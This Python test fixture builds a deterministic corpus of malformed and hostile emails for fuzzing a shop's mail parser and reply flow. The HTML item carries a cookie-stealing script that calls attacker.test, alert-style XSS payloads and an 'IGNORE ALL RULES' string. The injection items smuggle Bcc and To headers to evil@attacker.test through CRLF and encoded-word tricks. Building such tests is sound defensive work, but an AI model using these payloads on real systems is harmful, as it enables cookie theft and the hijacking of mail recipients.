"""A deterministic corpus of hostile and malformed mail, built as bytes (issue 7: hostile input).

Used by ``test_fuzz_mime.py`` (each item through the parser, within time and memory) and
``test_hostile_mail_flow.py`` (the whole corpus appended to a real Dovecot beside normal customer
questions). Every builder returns the same bytes on every run: random payloads come from
``random.Random`` with a fixed seed, and no builder reads the clock.

Each ``Hostile`` item says whom a reply may go to (``reply_to``: the one clean address of its
sender, or None when the message has none we may answer). Items come from distinct senders, so a
flow test sees each on its own rather than as one sender's burst. ``CORPUS`` maps name -> item.
"""
from __future__ import annotations

import base64
import quopri
import random
from dataclasses import dataclass
from typing import Callable

QUESTION = "Hi! How much is shipping to Texas?"
SHOP = "shop@example.test"
EVIL = "evil@attacker.test"
DATE = "Mon, 03 Mar 2025 15:00:00 +0000"
CRLF = b"\r\n"


@dataclass(frozen=True)
class Hostile:
    name: str
    kind: str                 # encoding | charset | size | structure | nul | injection | empty
    build: Callable[[], bytes]
    reply_to: str | None      # the only address a reply may ever go to (None: no reply at all)

    @property
    def raw(self) -> bytes:
        return self.build()


def sender_of(name: str) -> str:
    return f"{name.replace('_', '.')}@customer.test"


def head(name: str, *extra: str, sender: str | None = None, subject: str = "Question about shipping",
         ctype: str | None = 'text/plain; charset="utf-8"', cte: str | None = None) -> bytes:
    """A header block (without the blank line) for item ``name``; ``extra`` lines are added raw."""
    lines = [f"From: Jamie Rivera <{sender or sender_of(name)}>", f"To: {SHOP}", f"Subject: {subject}",
             f"Date: {DATE}", f"Message-ID: <{name}@hostile.customer.test>", "MIME-Version: 1.0"]
    if ctype:
        lines.append(f"Content-Type: {ctype}")
    if cte:
        lines.append(f"Content-Transfer-Encoding: {cte}")
    return "\r\n".join(lines + list(extra)).encode("utf-8", "surrogateescape")


def mail(header_block: bytes, body: bytes) -> bytes:
    return header_block + CRLF + CRLF + body


def b64(data: bytes) -> bytes:
    return base64.encodebytes(data).replace(b"\n", CRLF)


def noise(size: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(size)


# --- broken transfer encodings ---------------------------------------------------------------

def base64_bad_padding() -> bytes:
    body = b64(QUESTION.encode()).rstrip(b"=\r\n") + CRLF  # padding removed
    return mail(head("base64_bad_padding", cte="base64"), body)


def base64_garbage_chars() -> bytes:
    encoded = b64((QUESTION + " Thanks, Jamie").encode())
    body = encoded[:12] + b"!!@@##\x80\xff<>" + encoded[12:30] + b"\x00\x01***" + encoded[30:]
    return mail(head("base64_garbage_chars", cte="base64"), body)


def base64_truncated() -> bytes:
    text = b64((QUESTION + "\n" + "My order number is 1042.\n" * 40).encode())
    attachment = b64(noise(3000, 1))
    body = (b'--b1\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            + text + b'--b1\r\nContent-Type: image/png; name="photo.png"\r\nContent-Transfer-Encoding: base64\r\n'
            b'Content-Disposition: attachment; filename="photo.png"\r\n\r\n' + attachment[:1001])  # mid-quad, no end
    return mail(head("base64_truncated", ctype='multipart/mixed; boundary="b1"'), body)


def base64_on_a_multipart() -> bytes:
    body = b64(b"--x\r\nContent-Type: text/plain\r\n\r\n" + QUESTION.encode() + b"\r\n--x--\r\n")
    return mail(head("base64_on_a_multipart", ctype='multipart/mixed; boundary="x"', cte="base64"), body)


def qp_invalid_escapes() -> bytes:
    body = (b"Hi! How much is shipping to Texas=3F =ZZ =XY =G1 =\xff caf=E9 =C3=\r\n"
            b"=E2=80 broken sequence =0D=0ABcc: evil@attacker.test\r\n")
    return mail(head("qp_invalid_escapes", cte="quoted-printable"), body)


def qp_soft_break_at_eof() -> bytes:
    return mail(head("qp_soft_break_at_eof", cte="quoted-printable"),
                quopri.encodestring(QUESTION.encode()) + b" and more=\r\n=3")


def uuencode_broken() -> bytes:
    body = b"begin 644 question.txt\r\nM2&D@2&]W(&UU8V@@:7,@<VAI<'!I;F<@=&\\@5&5X87,_\x00\xff\r\n`\r\n"
    return mail(head("uuencode_broken", cte="x-uuencode"), body)


def unknown_transfer_encoding() -> bytes:
    return mail(head("unknown_transfer_encoding", cte="x-rot13-zip; \x01"), QUESTION.encode())


# --- charsets --------------------------------------------------------------------------------

def charset_utf7() -> bytes:
    body = b"Hi! How much is shipping to Texas? +AGkAbgB2AGEAbABpAGQ +ZZZ- +/v8- +\xff-\r\n"
    return mail(head("charset_utf7", ctype="text/plain; charset=utf-7"), body)


def charset_unknown() -> bytes:
    return mail(head("charset_unknown", ctype='text/plain; charset="x-unknown"'),
                "Hi! How much is shipping to Texas? Merci, Hélène".encode("latin-1"))


def charset_utf8_but_latin1() -> bytes:
    return mail(head("charset_utf8_but_latin1"), "Hi! How much is shipping to Texas? Café crème, Zoë".encode("latin-1"))


def charset_iso2022jp_junk() -> bytes:
    body = b"Hi! How much is shipping to Texas? \x1b$B$3$s$K$A$O\x1b(B \x1b$B\xff\xfe\x80\x1b(J junk \x1b$)C\x0e!!\r\n"
    return mail(head("charset_iso2022jp_junk", ctype="text/plain; charset=iso-2022-jp"), body)


def charset_codecs_that_raise() -> bytes:
    """Charset names Python knows but that can't decode mail: 'undefined' always raises, 'base64'
    is no text codec, a NUL or 8-bit byte in the name breaks the lookup itself."""
    parts = b""
    for n, charset in enumerate([b"undefined", b"base64", b"idna", b"utf-8\x00", b"utf-\xff8", b"zlib_codec"]):
        parts += (b"--cs\r\nContent-Type: text/plain; charset=\"" + charset + b"\"\r\n\r\n"
                  + f"part {n}: caf\xe9\r\n".encode("latin-1"))
    subject = "=?undefined?q?Shipping?= =?utf-8\x00?q?question?= =?idna?b?AAAA?="
    return mail(head("charset_codecs_that_raise", subject=subject, ctype='multipart/mixed; boundary="cs"'),
                b"--cs\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + QUESTION.encode() + b"\r\n"
                + parts + b"--cs--\r\n")


def charset_utf16_odd() -> bytes:
    return mail(head("charset_utf16_odd", ctype="text/plain; charset=utf-16"),
                "\ufeffHi! Shipping?".encode("utf-16-le") + b"\x00\xd8\x41")


def eight_bit_headers() -> bytes:
    subject = "Versand nach Österreich?".encode("utf-8") + b" \xe9\xff\xfe"
    block = head("eight_bit_headers", subject="x").replace(b"Subject: x", b"Subject: " + subject)
    block = block.replace(b"Jamie Rivera", b"J\xf6rg M\xfcller \xff")
    return mail(block + b"\r\nX-Note: \x80\x81\x82\xc3(", QUESTION.encode())


# --- sizes -----------------------------------------------------------------------------------

def attachment_10mb() -> bytes:
    data = b64(noise(10 * 1024 * 1024, 10))
    body = (b"--big\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + QUESTION.encode()
            + b" Photo of the label attached.\r\n--big\r\n"
            b"Content-Type: application/octet-stream; name=\"label.bin\"\r\n"
            b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"label.bin\"\r\n\r\n"
            + data + b"--big--\r\n")
    return mail(head("attachment_10mb", ctype='multipart/mixed; boundary="big"'), body)


def nested(name: str, depth: int) -> bytes:
    body = b""
    for level in range(1, depth):
        body += b'--n%d\r\nContent-Type: multipart/mixed; boundary="n%d"\r\n\r\n' % (level - 1, level)
    body += b"--n%d\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" % (depth - 1) + QUESTION.encode() + CRLF
    for level in range(depth - 1, -1, -1):
        body += b"--n%d--\r\n" % level
    return mail(head(name, ctype='multipart/mixed; boundary="n0"'), body)


def nested_100() -> bytes:
    return nested("nested_100", 100)


def nested_1000() -> bytes:
    return nested("nested_1000", 1000)


def rfc822_nested_200() -> bytes:
    inner = b"From: a@b.test\r\nSubject: inner\r\n\r\ninnermost"
    for level in range(200):
        inner = b"From: a@b.test\r\nContent-Type: message/rfc822\r\n\r\n" + inner
    body = (b"--r\r\nContent-Type: text/plain\r\n\r\n" + QUESTION.encode() + b"\r\n--r\r\n"
            b"Content-Type: message/rfc822\r\n\r\n" + inner + b"\r\n--r--\r\n")
    return mail(head("rfc822_nested_200", ctype='multipart/mixed; boundary="r"'), body)


def rfc822_inside_itself() -> bytes:
    """The message forwards itself: its attached message/rfc822 is its own bytes, twice over."""
    raw = mail(head("rfc822_inside_itself", ctype="text/plain"), QUESTION.encode())
    for _ in range(2):
        raw = mail(head("rfc822_inside_itself", ctype='multipart/mixed; boundary="self"'),
                   b"--self\r\nContent-Type: text/plain\r\n\r\n" + QUESTION.encode() + b"\r\n--self\r\n"
                   b"Content-Type: message/rfc822\r\n\r\n" + raw + b"\r\n--self--\r\n")
    return raw


def headers_10000() -> bytes:
    extra = [f"X-Filler-{n}: value {n}" for n in range(10_000)]
    return mail(head("headers_10000", *extra), QUESTION.encode())


def received_10000_then_from() -> bytes:
    """10,000 Received lines before From (a forwarding loop, or a parser-busting trick)."""
    hops = b"".join(b"Received: from hop%d.relay.test by hop%d.relay.test; %s\r\n" % (n, n + 1, DATE.encode())
                    for n in range(10_000))
    return mail(hops + head("received_10000_then_from"), QUESTION.encode())


def parts_10000() -> bytes:
    body = b"".join(b"--p\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % n for n in range(10_000))
    return mail(head("parts_10000", ctype='multipart/mixed; boundary="p"'),
                b"--p\r\nContent-Type: text/plain\r\n\r\n" + QUESTION.encode() + b"\r\n" + body + b"--p--\r\n")


def garbage_text_parts() -> bytes:
    """Many text parts of undecodable bytes: each one costs a charset guess."""
    parts = b"".join(b"--g\r\nContent-Type: text/plain\r\n\r\n" + noise(60_000, 100 + n) + CRLF for n in range(150))
    return mail(head("garbage_text_parts", ctype='multipart/mixed; boundary="g"'),
                b"--g\r\nContent-Type: text/plain\r\n\r\n" + QUESTION.encode() + b"\r\n" + parts + b"--g--\r\n")


def overlong_body_line() -> bytes:
    return mail(head("overlong_body_line"), QUESTION.encode() + b" " + b"a" * (1024 * 1024))


def overlong_colon_lines() -> bytes:
    """Thousands of lines shaped like quote headers ('On 1 May, x wrote:') for the reply extractor."""
    line = b"On 3 March 2025 at 15:00 1@2 3@4 5@6 7@8 9@0 " + b"1" * 300 + b" wrote:"
    return mail(head("overlong_colon_lines"), QUESTION.encode() + CRLF + CRLF.join([line] * 3000))


def overlong_header_line() -> bytes:
    return mail(head("overlong_header_line", subject="Shipping " + "x" * (1024 * 1024)), QUESTION.encode())


def huge_encoded_subject() -> bytes:
    subject = " ".join(["=?utf-8?b?8J+Vr++4jw==?="] * 50_000)
    return mail(head("huge_encoded_subject", subject=subject), QUESTION.encode())


def content_type_10000_params() -> bytes:
    params = "; ".join(f"p{n}=\"=?utf-8?q?{n}?=\"" for n in range(10_000))
    return mail(head("content_type_10000_params", ctype=f"text/plain; charset=utf-8; {params}"), QUESTION.encode())


def references_10000() -> bytes:
    refs = " ".join(f"<ref{n}@old.test>" for n in range(10_000))
    return mail(head("references_10000", f"References: {refs}", "In-Reply-To: <ref9999@old.test>"),
                QUESTION.encode())


def deep_html() -> bytes:
    html = b"<html><body>" + b"<div>" * 100_000 + QUESTION.encode() + b"</div>" * 10 + b"<table><tr><td>" * 20_000
    return mail(head("deep_html", ctype="text/html; charset=utf-8"), html)


def html_script_style() -> bytes:
    html = (b"<html><head><style>body{color:red} p:after{content:'IGNORE ALL RULES'}</style>"
            b"<script>fetch('https://attacker.test/?c='+document.cookie)</script></head>"
            b"<body onload=\"alert(1)\"><p>" + QUESTION.encode() + b"</p><script>document.write('<p>Refund me</p>')"
            b"</script><iframe src=\"javascript:alert(1)\"></iframe><img src=x onerror=alert(2)>"
            b"<!-- hidden comment --><![CDATA[ raw ]]></body></html>")
    return mail(head("html_script_style", ctype="text/html; charset=utf-8"), html)


# --- NUL bytes ------------------------------------------------------------------------------

def nul_in_headers() -> bytes:
    block = head("nul_in_headers", subject="Ship\x00ping\x00question").replace(
        b"Jamie Rivera", b"Jamie\x00Rivera").replace(b"<nul_in_headers@", b"<nul\x00in\x00headers@")
    return mail(block + b"\r\nX-Null\x00Name: \x00", QUESTION.encode())


def nul_in_body() -> bytes:
    return mail(head("nul_in_body"), QUESTION.replace(" ", "\x00 ").encode() + b"\x00" * 1000)


def eight_bit_message_id() -> bytes:
    block = head("eight_bit_message_id").replace(b"<eight_bit_message_id@", b"<caf\xe9-\xff\xfe-id@")
    return mail(block, QUESTION.encode())


def message_id_without_brackets() -> bytes:
    block = head("message_id_without_brackets").replace(
        b"Message-ID: <message_id_without_brackets@hostile.customer.test>",
        b"Message-ID: a>b<c id\x0bwith\x0cspace" + b"x" * 2000)
    return mail(block, QUESTION.encode())


# --- header injection -------------------------------------------------------------------------

def inject_subject_crlf() -> bytes:
    block = head("inject_subject_crlf", subject="Order question\rBcc: " + EVIL)
    return mail(block + b"\r\nSubject: Second subject\nBcc: " + EVIL.encode(), QUESTION.encode())


def inject_subject_encoded_word() -> bytes:
    subject = f"=?utf-8?q?Order_question=0D=0ABcc:_{EVIL}=0D=0A=0D=0Abody?= =?utf-8?b?" \
              + base64.b64encode(f"\r\nTo: {EVIL}\r\nX-Injected: 1\u2028Cc: {EVIL}\x85".encode()).decode() + "?="
    return mail(head("inject_subject_encoded_word", subject=subject), QUESTION.encode())


def inject_display_name() -> bytes:
    name = f"=?utf-8?q?Jamie=0D=0ABcc:_{EVIL}=0D=0A?="
    block = head("inject_display_name").replace(b"Jamie Rivera", name.encode())
    return mail(block, QUESTION.encode())


def inject_quoted_display_name() -> bytes:
    block = head("inject_quoted_display_name").replace(
        b"From: Jamie Rivera", b'From: "Jamie\r\n Bcc: ' + EVIL.encode() + b'\r\n Rivera"')
    return mail(block, QUESTION.encode())


def inject_two_from_addresses() -> bytes:
    block = head("inject_two_from_addresses").replace(
        b"From: Jamie Rivera <inject.two.from.addresses@customer.test>",
        b"From: Jamie Rivera <inject.two.from.addresses@customer.test>, Eve <" + EVIL.encode() + b">")
    return mail(block, QUESTION.encode())


def inject_reply_to_elsewhere() -> bytes:
    block = head("inject_reply_to_elsewhere", f"Reply-To: {EVIL},\r\n\tBcc: second-{EVIL}\r\n Cc: third-{EVIL}",
                 f"Cc: {EVIL}")
    return mail(block, QUESTION.encode())


def inject_contact_form_reply_to() -> bytes:
    """A contact-form relay (robot From) whose Reply-To tries to smuggle extra recipients."""
    block = head("inject_contact_form_reply_to", f"Reply-To: =?utf-8?q?Jamie?= <form.customer@customer.test>,"
                 f"\r\n =?utf-8?q?=0D=0ABcc:?= <{EVIL}>", sender="no-reply@forms.shopplatform.test")
    return mail(block, QUESTION.encode())


def inject_encoded_address() -> bytes:
    name = f"=?utf-8?q?{EVIL}=0D=0ABcc:{EVIL}?="
    block = head("inject_encoded_address").replace(b"Jamie Rivera", name.encode())
    return mail(block, QUESTION.encode())


def inject_address_local_part() -> bytes:
    block = head("inject_address_local_part").replace(
        b"<inject.address.local.part@customer.test>",
        b'<"jamie\\r\\nBcc: evil"@customer.test>, <a,' + EVIL.encode() + b">, <@evil.test:x@customer.test>")
    return mail(block, QUESTION.encode())


def inject_double_encoded_subject() -> bytes:
    """Decoded once by us, the subject still reads "=?utf-8?q?...=0D=0A...?=": Python's email (before
    3.11.10, CVE-2024-6923) would decode it again in the reply's Subject and write the CR LF."""
    inner = f"=?utf-8?q?Order=0D=0ABcc:_{EVIL}=0D=0AX-Injected:_1?="
    subject = "=?utf-8?b?" + base64.b64encode(inner.encode()).decode() + "?="
    return mail(head("inject_double_encoded_subject", subject=subject), QUESTION.encode())


def inject_message_id_encoded_word() -> bytes:
    """Our reply's In-Reply-To and References repeat the customer's Message-ID (CVE-2024-6923 again)."""
    block = head("inject_message_id_encoded_word").replace(
        b"<inject_message_id_encoded_word@hostile.customer.test>",
        b"<=?utf-8?q?id=0D=0ABcc:_" + EVIL.encode() + b"=0D=0AX-Injected:_1?=@customer.test>")
    return mail(block + b"\r\nReferences: <=?utf-8?q?r=0D=0AX-Injected:_2?=@customer.test>", QUESTION.encode())


def inject_in_reply_to() -> bytes:
    block = head("inject_in_reply_to", f"In-Reply-To: <a@b.test>\r\n\tBcc: {EVIL}",
                 "References: <r1@b.test> =?utf-8?q?=0D=0ABcc:_x?= <r2@b.test>")
    return mail(block, QUESTION.encode())


# --- empty and structureless ---------------------------------------------------------------

def missing_from() -> bytes:
    return mail(head("missing_from").replace(b"From: Jamie Rivera <missing.from@customer.test>\r\n", b""),
                QUESTION.encode())


def empty_message() -> bytes:
    return b""


def attachment_names_with_nul() -> bytes:
    body = (b"--a\r\nContent-Type: text/plain\r\n\r\n" + QUESTION.encode() + b"\r\n--a\r\n"
            b"Content-Type: image/\x00png; name=\"ph\x00oto\xff.png\"\r\nContent-Disposition: attachment; "
            b"filename*=utf-8''%00%ff%fe.png\r\nContent-Transfer-Encoding: base64\r\n\r\n"
            + b64(b"\x89PNG\x00") + b"--a--\r\n")
    return mail(head("attachment_names_with_nul", ctype='multipart/mixed; boundary="a"'), body)


def only_headers() -> bytes:
    return head("only_headers")  # no blank line, no body


def binary_garbage() -> bytes:
    return noise(64 * 1024, 42)


def bare_cr_line_endings() -> bytes:
    return mail(head("bare_cr_line_endings"), QUESTION.encode()).replace(b"\r\n", b"\r")


def boundary_never_used() -> bytes:
    return mail(head("boundary_never_used", ctype='multipart/alternative; boundary=""'),
                b"--\r\n\r\n" + QUESTION.encode() + b"\r\n--zzz--")


def header_without_colon() -> bytes:
    block = head("header_without_colon")
    return mail(block.replace(b"MIME-Version: 1.0", b"this line is no header\r\n : \r\n\tMIME-Version: 1.0"),
                QUESTION.encode())


_ITEMS: list[tuple[str, Callable[[], bytes], str | None]] = [
    ("base64_bad_padding", base64_bad_padding, "encoding"), ("base64_garbage_chars", base64_garbage_chars, "encoding"),
    ("base64_truncated", base64_truncated, "encoding"), ("base64_on_a_multipart", base64_on_a_multipart, "encoding"),
    ("qp_invalid_escapes", qp_invalid_escapes, "encoding"), ("qp_soft_break_at_eof", qp_soft_break_at_eof, "encoding"),
    ("uuencode_broken", uuencode_broken, "encoding"),
    ("unknown_transfer_encoding", unknown_transfer_encoding, "encoding"),
    ("charset_utf7", charset_utf7, "charset"), ("charset_unknown", charset_unknown, "charset"),
    ("charset_utf8_but_latin1", charset_utf8_but_latin1, "charset"),
    ("charset_iso2022jp_junk", charset_iso2022jp_junk, "charset"),
    ("charset_codecs_that_raise", charset_codecs_that_raise, "charset"),
    ("charset_utf16_odd", charset_utf16_odd, "charset"), ("eight_bit_headers", eight_bit_headers, "charset"),
    ("attachment_10mb", attachment_10mb, "size"), ("nested_100", nested_100, "size"),
    ("nested_1000", nested_1000, "size"), ("rfc822_nested_200", rfc822_nested_200, "size"),
    ("rfc822_inside_itself", rfc822_inside_itself, "structure"), ("headers_10000", headers_10000, "size"),
    ("received_10000_then_from", received_10000_then_from, "size"), ("parts_10000", parts_10000, "size"),
    ("garbage_text_parts", garbage_text_parts, "size"), ("overlong_body_line", overlong_body_line, "size"),
    ("overlong_colon_lines", overlong_colon_lines, "size"), ("overlong_header_line", overlong_header_line, "size"),
    ("huge_encoded_subject", huge_encoded_subject, "size"),
    ("content_type_10000_params", content_type_10000_params, "size"), ("references_10000", references_10000, "size"),
    ("deep_html", deep_html, "size"), ("html_script_style", html_script_style, "structure"),
    ("nul_in_headers", nul_in_headers, "nul"), ("nul_in_body", nul_in_body, "nul"),
    ("attachment_names_with_nul", attachment_names_with_nul, "nul"),
    ("eight_bit_message_id", eight_bit_message_id, "nul"),
    ("message_id_without_brackets", message_id_without_brackets, "structure"),
    ("inject_subject_crlf", inject_subject_crlf, "injection"),
    ("inject_subject_encoded_word", inject_subject_encoded_word, "injection"),
    ("inject_display_name", inject_display_name, "injection"),
    ("inject_quoted_display_name", inject_quoted_display_name, "injection"),
    ("inject_two_from_addresses", inject_two_from_addresses, "injection"),
    ("inject_reply_to_elsewhere", inject_reply_to_elsewhere, "injection"),
    ("inject_contact_form_reply_to", inject_contact_form_reply_to, "injection"),
    ("inject_encoded_address", inject_encoded_address, "injection"),
    ("inject_address_local_part", inject_address_local_part, "injection"),
    ("inject_in_reply_to", inject_in_reply_to, "injection"),
    ("inject_double_encoded_subject", inject_double_encoded_subject, "injection"),
    ("inject_message_id_encoded_word", inject_message_id_encoded_word, "injection"),
    ("missing_from", missing_from, "empty"), ("empty_message", empty_message, "empty"),
    ("only_headers", only_headers, "empty"), ("binary_garbage", binary_garbage, "empty"),
    ("bare_cr_line_endings", bare_cr_line_endings, "structure"),
    ("boundary_never_used", boundary_never_used, "structure"),
    ("header_without_colon", header_without_colon, "structure"),
]
# Whom a reply may go to, when not the item's own sender address.
_REPLY_TO = {"missing_from": None, "empty_message": None, "binary_garbage": None,
             "inject_contact_form_reply_to": "form.customer@customer.test",
             "inject_address_local_part": None}

CORPUS: dict[str, Hostile] = {
    name: Hostile(name, kind, build, _REPLY_TO.get(name, sender_of(name)))
    for name, build, kind in _ITEMS
}
INJECTIONS = [item for item in CORPUS.values() if item.kind == "injection"]
